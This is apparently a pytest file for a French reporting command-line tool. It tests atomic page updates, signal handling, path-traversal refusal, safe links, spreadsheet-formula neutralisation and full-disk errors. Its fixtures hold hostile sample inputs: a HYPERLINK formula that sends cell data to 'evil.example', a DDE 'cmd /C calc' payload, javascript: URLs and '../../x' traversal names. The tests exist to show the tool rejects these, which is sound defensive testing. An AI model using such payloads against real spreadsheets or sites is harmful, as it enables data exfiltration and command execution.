"""When things go wrong (issue 13): a failed page keeps the previous one, interrupts stop
within two seconds and leave nothing behind, names from data never leave their folder,
URLs from data are linked only when http(s), spreadsheet cells are inert, the command
line speaks French, a full disk loses nothing.

Each test works at the level users touch (the ``territoires`` command) on the fixture
warehouse (département 29), with its own TERRITOIRES_HOME.
"""

from __future__ import annotations

import errno
import json
import os
import re
import shutil
import signal
import subprocess
import sys
import time
from pathlib import Path

import nbformat
import pytest

from territoires import cli, interruptions

REPO = Path(__file__).resolve().parents[1]
NOTEBOOKS = REPO / "notebooks" / "reports"
DEP = "29"  # the Finistère page: it has a CSV of communes to support


def _home_with(fixture_warehouse: Path, home: Path) -> Path:
    """A TERRITOIRES_HOME of its own (its own reports/) reading the fixture warehouse."""
    target = home / "data" / "processed"
    target.mkdir(parents=True, exist_ok=True)
    os.symlink(fixture_warehouse, target / "territoires.duckdb")
    (home / "territoires.toml").write_text("#\n")
    return home


def _carnets(tmp_path: Path, cellule: str | None = None) -> Path:
    """A copy of the report notebooks; ``cellule`` runs early on the Finistère page only."""
    carnets = tmp_path / "carnets"
    if carnets.exists():
        shutil.rmtree(carnets)
    shutil.copytree(NOTEBOOKS, carnets)
    if cellule:
        nb = nbformat.read(carnets / "tableau_de_bord.ipynb", as_version=4)
        body = "\n".join("    " + line for line in cellule.splitlines())
        # after the parameters cell (papermill's goes between), before the sections' calls
        nb.cells.insert(2, nbformat.v4.new_code_cell(f'if code == "{DEP}":\n{body}'))
        nbformat.write(nb, carnets / "tableau_de_bord.ipynb")
    return carnets


def _fichiers(reports: Path) -> dict[str, bytes]:
    """Every file of the site except the index and the manifest (rewritten each run)."""
    return {str(p.relative_to(reports)): p.read_bytes() for p in sorted(reports.rglob("*"))
            if p.is_file() and p.name not in ("index.html", "manifest.json")}


def _temporaires(*dossiers: Path) -> list[Path]:
    return [p for d in dossiers for p in d.rglob(".*") if interruptions.MOTIF_TEMPORAIRE.match(p.name)]


# ── 1. a page swaps in only when complete ────────────────────────────────────

@pytest.mark.parametrize("cas, cellule, options, raison", [
    ("carnet en erreur", 'raise RuntimeError("panne simulée")', [], "RuntimeError : panne simulée"),
    ("cellule trop longue", "import time\ntime.sleep(60)", ["--timeout", "4.5"], "délai dépassé"),
])
def test_a_failed_update_keeps_the_previous_page_byte_identical_and_linked(
        tmp_path, fixture_warehouse, monkeypatch, capsys, cas, cellule, options, raison):
    home = _home_with(fixture_warehouse, tmp_path / "home")
    monkeypatch.setenv("TERRITOIRES_HOME", str(home))
    reports = home / "reports"
    scope = f"departement:{DEP}"
    assert cli.main(["report", "--quiet", "--scope", scope, "--jobs", "1", "--carnets", str(_carnets(tmp_path))]) == 0
    avant = _fichiers(reports)
    assert f"departement/{DEP}.html" in avant and not any(k.endswith(".ipynb") for k in avant)  # not published
    carnet = home / "audit" / "notebooks" / "departement" / f"{DEP}.ipynb"
    carnet_avant = carnet.read_bytes()  # kept for audit outside reports/
    assert any(k.endswith(".csv") for k in avant)

    t0 = time.monotonic()
    code = cli.main(["report", "--quiet", "--scope", scope, "--jobs", "1", "--force",
                     "--carnets", str(_carnets(tmp_path, cellule)), *options])
    assert code == 1, cas
    assert time.monotonic() - t0 < 40  # the cell over the limit was stopped
    err = capsys.readouterr().err
    assert raison in err and "reste en ligne" in err
    apres = _fichiers(reports)
    garde = (home / "audit" / "notebooks" / "departement" / f"{DEP}.echec.ipynb").is_file()
    assert garde or cas == "cellule trop longue"  # the failed notebook, kept for audit beside the good one
    # (papermill saves no notebook after a timeout)
    assert apres == avant  # every previous file byte-identical
    assert carnet.read_bytes() == carnet_avant
    assert not _temporaires(reports, home / "audit")

    manifest = json.loads((reports / "manifest.json").read_text(encoding="utf-8"))
    entree = {p["portee"]: p for p in manifest["pages"]}[scope]
    assert entree["statut"] == "echec" and raison in entree["erreur"]
    assert entree["conservee"]["page"] == f"departement/{DEP}.html"
    assert entree["conservee"]["age_s"] >= 0 and entree["conservee"]["du"]
    assert entree.get("carnet_echec") == (f"notebooks/departement/{DEP}.echec.ipynb" if garde else None)  # under audit/
    index = (reports / "index.html").read_text(encoding="utf-8")
    assert f'href="departement/{DEP}.html"' in index
    assert "la mise à jour a échoué" in index and "page du " in index


def test_timeout_takes_a_decimal_number_of_seconds_and_papermill_gets_an_int():
    from territoires.reports.travailleur import secondes_papermill

    assert cli.parser().parse_args(["report", "--timeout", "0.2"]).timeout == 0.2
    assert cli.parser().parse_args(["report", "--timeout", "0,5"]).timeout == 0.5
    assert secondes_papermill(0.2) == 1 and isinstance(secondes_papermill(0.2), int)
    assert secondes_papermill(900) == 900 and secondes_papermill(None) is None


# ── 2. interrupts: within two seconds, nothing left behind ───────────────────

def _env_sans_home() -> dict[str, str]:
    return {k: v for k, v in os.environ.items() if k != "TERRITOIRES_HOME"}


def _home_copie(fixture_warehouse: Path, home: Path) -> Path:
    (home / "data" / "processed").mkdir(parents=True)
    (home / "territoires.toml").write_text("#\n")
    shutil.copy(fixture_warehouse, home / "data" / "processed" / "territoires.duckdb")
    return home


def _attendre(condition, delai: float, proc: subprocess.Popen) -> None:
    fin = time.monotonic() + delai
    while not condition():
        assert proc.poll() is None, f"the command ended before it could be stopped: {proc.communicate()}"
        assert time.monotonic() < fin, "the command never reached the point where it is stopped"
        time.sleep(0.02)


def _cmdline(pid: int) -> bytes:
    try:
        return Path(f"/proc/{pid}/cmdline").read_bytes()
    except OSError:  # gone meanwhile
        return b""


def _vivants(pids: list[int]) -> list[int]:
    return [p for p in pids if interruptions.pid_vivant(p) and not interruptions._zombie(p)]


def _arreter(proc: subprocess.Popen, signum: int, status: int) -> tuple[str, list]:
    """Send ``signum`` to a running command: it must exit with ``status`` within two
    seconds. Returns its stderr and the processes it had started."""
    enfants = interruptions.descendants(proc.pid)
    t0 = time.monotonic()
    proc.send_signal(signum)
    _, err = proc.communicate(timeout=30)
    duree = time.monotonic() - t0
    assert proc.returncode == status, err
    assert duree < 2.0, f"stopped after {duree:.1f} s"
    return err, enfants


@pytest.mark.parametrize("signum, status", [(signal.SIGINT, 130), (signal.SIGTERM, 143)])
def test_a_signal_stops_a_build_within_two_seconds_leaving_no_temporary(fixture_warehouse, tmp_path, signum, status):
    home = _home_copie(fixture_warehouse, tmp_path / "home")
    wh = home / "data" / "processed" / "territoires.duckdb"
    avant = wh.read_bytes()
    proc = subprocess.Popen([sys.executable, "-m", "territoires.cli", "-q", "build", "--departements", "29", "--force"],
                            cwd=home, env=_env_sans_home(), stderr=subprocess.PIPE, text=True)
    # well into the build: the temporary warehouse exists and DuckDB is at work
    _attendre(lambda: any(p.stat().st_size > 1 << 20 for p in wh.parent.glob(".territoires.duckdb.tmp-*")), 60, proc)
    err, enfants = _arreter(proc, signum, status)
    assert err.strip().splitlines()[-1].endswith("l'entrepôt précédent est intact.")
    assert wh.read_bytes() == avant
    assert not _temporaires(wh.parent)
    assert not _vivants(enfants)


def test_a_stale_temporary_of_a_dead_process_is_removed_by_the_next_build(fixture_warehouse, tmp_path):
    home = _home_copie(fixture_warehouse, tmp_path / "home")
    mort = subprocess.Popen(["true"])
    mort.wait()  # a process that no longer exists
    processed = home / "data" / "processed"
    stale = [processed / f".territoires.duckdb.tmp-{mort.pid}", processed / f".territoires.duckdb.tmp-{mort.pid}.wal",
             home / "reports" / "region" / f".53.html.tmp-{mort.pid}-0a1b2c3d"]
    vivant = processed / f".territoires.duckdb.tmp-{os.getpid()}"  # this process is alive: kept
    for p in [*stale, vivant]:
        p.parent.mkdir(parents=True, exist_ok=True)
        p.write_bytes(b"x" * 1000)
    res = subprocess.run([sys.executable, "-m", "territoires.cli", "build", "--departements", "29"],
                         cwd=home, env=_env_sans_home(), capture_output=True, text=True, timeout=300)
    assert res.returncode == 0, res.stderr
    assert not any(p.exists() for p in stale)
    assert vivant.exists()
    assert f"Nettoyage : 3 fichiers temporaires laissés par un processus arrêté (pid {mort.pid}) supprimés" in res.stderr


@pytest.mark.parametrize("signum, status, nom", [(signal.SIGTERM, 143, "SIGTERM"), (signal.SIGINT, 130, "SIGINT")])
def test_a_signal_stops_a_report_within_two_seconds_leaving_no_process_and_no_temporary(
        fixture_warehouse, tmp_path, signum, status, nom):
    home = _home_with(fixture_warehouse, tmp_path / "home")
    reports = home / "reports"
    proc = subprocess.Popen([sys.executable, "-m", "territoires.cli", "-q", "report", "--scope", "all", "--jobs", "2"],
                            cwd=home, env=_env_sans_home(), stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)

    def noyaux_au_travail() -> bool:  # both workers have a kernel, a page is under way
        kernels = [p for p in interruptions.descendants(proc.pid)
                   if b"ipykernel" in _cmdline(p)]
        # the notebook under way is written beside its place in audit/ (outside the published folder)
        return len(kernels) >= 2 and bool(_temporaires(reports, home / "audit"))

    _attendre(noyaux_au_travail, 120, proc)
    err, enfants = _arreter(proc, signum, status)
    assert "les pages déjà écrites sont complètes" in err.strip().splitlines()[-1]
    assert "Traceback" not in err, err  # e.g. multiprocessing's resource tracker killed with the workers
    time.sleep(0.2)  # orphans are reaped by init
    assert not _vivants(enfants), [_cmdline(p) for p in _vivants(enfants)]
    assert not _temporaires(reports, home / "audit")
    manifest = json.loads((reports / "manifest.json").read_text(encoding="utf-8"))
    assert manifest["derniere_execution"]["interrompue"] == nom
    assert {p["statut"] for p in manifest["pages"]} <= {"ok", "echec", "interrompue"}
    assert any(p["statut"] == "interrompue" for p in manifest["pages"])


# ── 3. names that become paths ───────────────────────────────────────────────

def test_an_operator_code_that_would_leave_reports_is_refused_with_file_and_line(
        fixture_warehouse, tmp_path, monkeypatch, capsys):
    from territoires import operateurs

    home = _home_copie(fixture_warehouse, tmp_path / "home")
    toml = home / "operateurs.toml"  # a home's own operators' file replaces the package's
    texte = operateurs.PAQUET.read_text(encoding="utf-8").replace('code = "megalis"', 'code = "../../x"')
    toml.write_text(texte, encoding="utf-8")
    ligne = next(i for i, line in enumerate(texte.splitlines(), 1) if '"../../x"' in line)
    monkeypatch.setenv("TERRITOIRES_HOME", str(home))
    wh = home / "data" / "processed" / "territoires.duckdb"
    avant = wh.read_bytes()
    assert cli.main(["build", "--quiet", "--departements", "29"]) == cli.EXIT_ERREUR
    err = capsys.readouterr().err
    assert f"{toml}, ligne {ligne} : code d'opérateur « ../../x » refusé" in err
    assert wh.read_bytes() == avant
    assert not list(tmp_path.rglob("x.html"))


def test_paths_of_the_site_stay_inside_reports(tmp_path):
    from territoires import noms
    from territoires.reports import site

    for niveau, code in [("operateur", "../../x"), ("operateur", "A"), ("epci", "../29"), ("region", "/etc"),
                         ("departement", "29/../../x"), ("inconnu", "29")]:
        with pytest.raises(noms.NomInvalide):
            site.chemin_page(niveau, code)
        with pytest.raises(noms.NomInvalide):
            site.chemin_notebook(niveau, code)
    assert site.chemin_page("departement", "2A") == "departement/2A.html"
    assert site.chemin_page("operateur", "megalis") == "operateur/megalis.html"
    for rel in ["../x.csv", "/tmp/x.csv", "a/../../x.csv"]:
        with pytest.raises(noms.HorsDossier):
            noms.dans_dossier(tmp_path, rel)
    os.symlink("/tmp", tmp_path / "lien")
    with pytest.raises(noms.HorsDossier):
        noms.dans_dossier(tmp_path, "lien/x.csv")
    assert noms.dans_dossier(tmp_path, "region/53-communes.csv") == tmp_path / "region" / "53-communes.csv"


def test_a_source_id_that_would_leave_data_raw_is_refused(tmp_path):
    from territoires.sources import REGISTRY_PATH, SourceError, load_registry

    reg = tmp_path / "registry.toml"
    reg.write_text(REGISTRY_PATH.read_text(encoding="utf-8").replace('id = "operateurs"', 'id = "../operateurs"'),
                   encoding="utf-8")
    with pytest.raises(SourceError, match=r"registry.toml, ligne \d+ : identifiant de source '../operateurs' refusé"):
        load_registry(reg)


# ── 4. links only where safe ─────────────────────────────────────────────────

def test_a_javascript_url_in_the_sources_registry_is_never_a_link(fixture_warehouse, tmp_path, monkeypatch):
    import duckdb

    from territoires import html

    home = _home_copie(fixture_warehouse, tmp_path / "home")
    wh = home / "data" / "processed" / "territoires.duckdb"
    con = duckdb.connect(str(wh))
    con.execute("update marts.sources set url = ' JavaScript:alert(document.domain)' where id = 'operateurs'")
    con.execute("update marts.sources set url = 'https://www.data.gouv.fr/x?a=1&b=2' where id = 'classement-sites'")
    con.close()
    monkeypatch.setenv("TERRITOIRES_HOME", str(home))
    assert cli.main(["report", "--quiet", "--scope", "departement:29", "--jobs", "1"]) == 0
    page = (home / "reports" / "departement" / "29.html").read_text(encoding="utf-8")
    assert not re.search(r"href=\"\s*javascript", page, re.IGNORECASE)  # the title stays, as text
    assert 'href="https://www.data.gouv.fr/x?a=1&amp;b=2"' in page
    for url in ["javascript:alert(1)", "JAVASCRIPT:x", "java\tscript:x", "\x01javascript:x", "data:text/html,x",
                "vbscript:x", "//evil.example", "/relatif", "file:///etc/passwd", "https://", None, 42]:
        assert "<a" not in html.lien_externe(url, "texte"), url
    assert html.lien_externe("https://ok.fr/?q=<b>", "t") == '<a href="https://ok.fr/?q=&lt;b&gt;">t</a>'


# ── 5. one writer for spreadsheets ───────────────────────────────────────────

def test_a_formula_cell_is_neutralised_in_csv_and_xlsx_exports(fixture_warehouse, tmp_path, monkeypatch):
    import duckdb
    import openpyxl

    home = _home_copie(fixture_warehouse, tmp_path / "home")
    formule = '=HYPERLINK("http://evil.example/?"&A1,"Cliquez")'
    con = duckdb.connect(str(home / "data" / "processed" / "territoires.duckdb"))
    con.execute("update marts.presence_numerique set nom = ?, mairie_site = '@SUM(1+1)*cmd|'' /C calc''!A0' "
                "where code = '29019'", [formule])
    con.close()
    monkeypatch.setenv("TERRITOIRES_HOME", str(home))
    csv_path, xlsx_path = tmp_path / "c.csv", tmp_path / "c.xlsx"
    assert cli.main(["export", "--niveau", "commune", "--format", "csv", "-o", str(csv_path)]) == 0
    assert cli.main(["export", "--niveau", "commune", "--format", "xlsx", "-o", str(xlsx_path)]) == 0

    import csv

    rows = list(csv.reader(csv_path.read_text(encoding="utf-8-sig").splitlines(), delimiter=";"))
    cells = [c for r in rows for c in r]
    assert "'" + formule in cells and not any(c.startswith(("=", "+", "@", "\t", "\r")) for c in cells)
    assert any(c.startswith("'@SUM") for c in cells)
    brest = next(r for r in rows if r[0] == "29019")
    assert brest[rows[0].index("population")].isdigit()  # numbers stay numbers

    wb = openpyxl.load_workbook(xlsx_path)
    ws = wb["donnees"]
    values = [(c.value, c.data_type) for row in ws.iter_rows() for c in row]
    assert ("'" + formule, "s") in values
    assert not any(t == "f" for _, t in values)  # no formula anywhere
    entetes = [c.value for c in ws[1]]
    ligne = next(r for r in ws.iter_rows(min_row=2) if r[0].value == "29019")
    assert isinstance(ligne[entetes.index("population")].value, int)


def test_tableurs_rule():
    import polars as pl

    from territoires import tableurs

    for dangereux in ["=1+1", "+33 1", "-2", "@x", "\tx", "\rx"]:
        assert tableurs.neutraliser(dangereux) == "'" + dangereux
    for inerte in ["Brest", "", "'=déjà", " =x", 3, -2.5, None]:
        assert tableurs.neutraliser(inerte) == inerte
    df = tableurs.neutraliser_df(pl.DataFrame({"t": ["=a", "b", None], "n": [-1, 2, 3]}))
    assert df["t"].to_list() == ["'=a", "b", None] and df["n"].to_list() == [-1, 2, 3]
    texte = tableurs.csv_texte(["a", "b"], [["=x", -3], [None, 1.5]])
    assert texte == "a;b\r\n'=x;-3\r\n;1,5\r\n"


# ── 6. command lines in French ───────────────────────────────────────────────

@pytest.mark.parametrize("argv, message", [
    ([], "arguments obligatoires manquants : COMMANDE"),
    (["bild"], "choix « bild » inconnu (choix possibles : 'build'"),
    (["report", "--jobs", "abc"], "argument --jobs/-j : « abc » n'est pas un nombre entier"),
    (["report", "--jobs", "0"], "un nombre entier supérieur ou égal à 1 est attendu"),
    (["report", "--timeout"], "argument --timeout : une valeur est attendue"),
    (["report", "--timeout", "bientôt"], "« bientôt » n'est pas une durée en secondes"),
    (["report", "--timeout", "-1"], "une durée positive en secondes est attendue"),
    (["build", "--regions", "53", "--all-france"], "argument --all-france : incompatible avec l'argument --regions"),
    (["build", "--regions", ""], "argument --regions : valeur vide"),
    (["build", "--regions", " , "], "argument --regions : valeur vide"),
    (["build", "--departements", ""], "argument --departements : valeur vide"),
    (["report", "--scope", ""], "argument --scope : valeur vide"),
    (["report", "--scope", "  "], "argument --scope : valeur vide"),
    (["build", "--pas-une-option"], "arguments non reconnus : --pas-une-option"),
    (["indicateurs", "--inconnus", "x"], "« x » n'est pas une valeur valide (nombre entier attendu)"),
    (["export", "--format", "ods"], "choix « ods » inconnu"),
])
def test_usage_errors_are_french_and_exit_2(argv, message, capsys):
    with pytest.raises(SystemExit) as exc:
        cli.main(argv)
    assert exc.value.code == cli.EXIT_USAGE
    err = capsys.readouterr().err
    assert message in err, err
    assert "utilisation : territoires" in err and " : erreur : " in err
    for anglais in ("usage:", "error:", "invalid", "expected", "required", "not allowed", "unrecognized"):
        assert anglais not in err, err


def test_help_is_french(capsys):
    with pytest.raises(SystemExit) as exc:
        cli.main(["report", "--help"])
    assert exc.value.code == 0
    out = capsys.readouterr().out
    assert out.startswith("utilisation : territoires report") and "afficher cette aide et quitter" in out
    assert "show this help" not in out and "usage:" not in out


# ── 7. a full disk ───────────────────────────────────────────────────────────

def test_a_full_disk_during_a_report_loses_nothing(fixture_warehouse, tmp_path, monkeypatch, capsys):
    from territoires.reports import publication

    home = _home_with(fixture_warehouse, tmp_path / "home")
    monkeypatch.setenv("TERRITOIRES_HOME", str(home))
    reports = home / "reports"
    assert cli.main(["report", "--quiet", "--scope", f"departement:{DEP}", "--jobs", "1"]) == 0
    avant = _fichiers(reports)
    manifeste = (reports / "manifest.json").read_bytes()
    index = (reports / "index.html").read_bytes()
    capsys.readouterr()

    def disque_plein(path, data):
        raise OSError(errno.ENOSPC, "No space left on device", str(path))

    monkeypatch.setattr(publication, "ecrire_fichier", disque_plein)
    assert cli.main(["report", "--quiet", "--scope", f"departement:{DEP}", "--jobs", "1", "--force"]) == cli.EXIT_ERREUR
    err = capsys.readouterr().err
    assert f"Erreur : disque plein : impossible d'écrire dans {reports}" in err
    assert "il faut environ" in err and "les fichiers précédents sont intacts" in err
    apres = _fichiers(reports)
    assert apres == avant
    assert (reports / "manifest.json").read_bytes() == manifeste and json.loads(manifeste)
    assert (reports / "index.html").read_bytes() == index
    assert not _temporaires(reports)


def test_a_full_disk_during_a_build_or_an_export_is_said_in_french(tmp_path, monkeypatch):
    import duckdb

    from territoires import espace, tableurs

    from territoires.config import settings

    monkeypatch.setenv("TERRITOIRES_HOME", str(tmp_path))
    (tmp_path / "territoires.toml").write_text("#\n")
    cfg = settings(tmp_path)
    msg = espace.message_disque_plein(duckdb.IOException('Could not write file "x": No space left on device'), "build",
                                      cfg)
    assert msg.startswith(f"Erreur : disque plein : impossible d'écrire dans {tmp_path / 'data' / 'processed'}")
    assert espace.message_disque_plein(ValueError("autre"), "build", cfg) is None

    import polars as pl

    def plein(self, *a, **k):
        raise OSError(errno.ENOSPC, "No space left on device")

    monkeypatch.setattr(pl.DataFrame, "write_csv", plein)
    with pytest.raises(espace.DisquePlein, match="disque plein : impossible d'écrire dans"):
        tableurs.ecrire_csv(pl.DataFrame({"a": [1]}), tmp_path / "x.csv")
    assert not list(tmp_path.glob(".x.csv*")) and not (tmp_path / "x.csv").exists()


# ── 8. property-based: the scope parser and the command line never trace back ─

def test_two_reports_started_together_leave_every_page_complete(fixture_warehouse, tmp_path):
    """The second waits for the first (one writer per home), then finds its pages up to
    date: both end well, every page is whole, the manifest is valid JSON."""
    home = _home_copie(fixture_warehouse, tmp_path / "home")
    env = dict(os.environ, TERRITOIRES_HOME=str(home), TERRITOIRES_THREADS="1")
    cmd = [sys.executable, "-m", "territoires.cli", "-q", "report", "--scope", "departement:29,region:53", "--jobs", "1"]
    procs = [subprocess.Popen(cmd, env=env, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
             for _ in range(2)]
    sorties = [p.communicate(timeout=300) for p in procs]
    assert [p.returncode for p in procs] == [0, 0], sorties
    assert any("En attente" in err for _, err in sorties)  # one waited for the other
    manifest = json.loads((home / "reports" / "manifest.json").read_text(encoding="utf-8"))
    assert {p["portee"]: p["statut"] for p in manifest["pages"]} == {"departement:29": "ok", "region:53": "ok"}
    for page in ("departement/29.html", "region/53.html"):
        assert (home / "reports" / page).read_text(encoding="utf-8").rstrip().endswith("</html>")
    assert not list((home / "reports").rglob(".*tmp*"))


from hypothesis import HealthCheck, given, settings  # noqa: E402
from hypothesis import strategies as st  # noqa: E402

_MORCEAUX = st.sampled_from(["all", "alliance", "region:53", "departement:29", "epci:*", f"epci:{'242900314'}",
                             "operateur:megalis", "operateur:../../x", "region:", ":53", "x:y", "", " ", ",",
                             "epci:../../etc", "région:53", "departement:2A", "*", "all:all"])
_PORTEES = st.one_of(st.text(max_size=40), st.lists(_MORCEAUX, max_size=5).map(",".join),
                     st.lists(st.one_of(_MORCEAUX, st.text(max_size=8)), max_size=4).map(",".join))


@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(portee=_PORTEES)
def test_scope_parser_accepts_or_refuses_in_french(con, portee, tmp_path):
    from territoires import noms
    from territoires.reports import site

    try:
        pages = site.pages(con, portee)
    except ValueError as exc:
        assert str(exc) and ("portée" in str(exc) or "code" in str(exc) or "aucune page" in str(exc))
        return
    assert pages and len({p.portee for p in pages}) == len(pages)
    for p in pages:  # every page it accepts has paths inside reports/
        noms.dans_dossier(tmp_path, p.html)
        noms.dans_dossier(tmp_path, p.ipynb)


_JETONS = st.sampled_from(["build", "report", "fetch", "export", "indicateurs", "info", "sources", "page", "init",
                           "--regions", "--departements", "--all-france", "--scope", "--jobs", "-j", "--timeout",
                           "--force", "--quiet", "-q", "--format", "--niveau", "--carnets", "--all", "--",
                           "53", "29", "0", "-1", "0.2", "abc", "", " ", ",", "all", "csv", "x" * 3, "--inconnu"])


@settings(max_examples=300, deadline=None)
@given(argv=st.lists(st.one_of(_JETONS, st.text(max_size=10)), max_size=6))
def test_the_command_line_never_traces_back(argv):
    import contextlib
    import io

    out, err = io.StringIO(), io.StringIO()
    with contextlib.redirect_stdout(out), contextlib.redirect_stderr(err):
        try:
            args = cli.parser().parse_args(argv)
        except SystemExit as exc:
            assert exc.code in (0, 2)
            if exc.code == 2:
                assert " : erreur : " in err.getvalue()
            return
    assert "Traceback" not in err.getvalue()
    for opt in ("regions", "departements", "scope", "carnets"):  # an empty value never passes
        value = getattr(args, opt, None)
        assert value is None or (value if isinstance(value, str) else ",".join(value)).strip()


@pytest.mark.parametrize("silencieux", [False, True])
def test_a_process_ended_abruptly_leaves_no_resource_tracker_warning_after_its_last_line(silencieux):
    """An interrupted report that does not stop in time ends by os._exit, its workers' pool
    semaphores still registered: the resource tracker, which outlives it, removes them and
    warned in English after the command's French last line (one CI run of the report's
    SIGINT test). The runner starts the tracker without that warning."""
    code = ("import multiprocessing, os, sys\n"
            + ("from territoires import interruptions; interruptions.lancer_suivi_des_ressources()\n" if silencieux else "")
            + "verrou = multiprocessing.get_context('spawn').Lock()\n"
            "sys.stderr.write('dernière ligne\\n'); sys.stderr.flush()\n"
            "os._exit(130)\n")
    res = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, timeout=60)
    assert res.returncode == 130
    if silencieux:
        assert res.stderr.strip().splitlines() == ["dernière ligne"], res.stderr
    else:  # what the runner's tracker no longer says: this test would see it
        assert "leaked semaphore" in res.stderr
